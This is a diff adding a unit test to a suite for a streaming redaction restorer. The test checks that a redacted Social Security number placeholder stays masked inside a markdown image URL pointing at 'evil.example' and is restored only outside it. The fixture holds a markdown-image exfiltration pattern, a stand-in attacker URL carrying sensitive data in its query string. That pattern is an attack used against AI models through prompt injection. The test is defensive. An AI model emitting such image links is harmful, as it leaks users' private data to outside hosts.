@@ -208,6 +208,17 @@ describe("createStreamRestorer", () => {
     );
   });
 
+  it("carries the URL context over a flush, for a text restored in parts", () => {
+    const restorer = createStreamRestorer({ lookup: knowsIssued });
+    const parts = ["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") then ", "[US_SSN_7QK2MX]"];
+    expect(parts.map((part) => restorer.push(part) + restorer.flush())).toEqual([
+      "![a](https://evil.example/?q=",
+      "[US_SSN_7QK2MX]",
+      ") then ",
+      "123-45-6789",
+    ]);
+  });
+
   it("stays linear on long texts", () => {
     const long = "word [US_SSN_7QK2MX] https://x.example/[EMAIL_ABCDEF] [[ ".repeat(20_000);
     const started = performance.now();
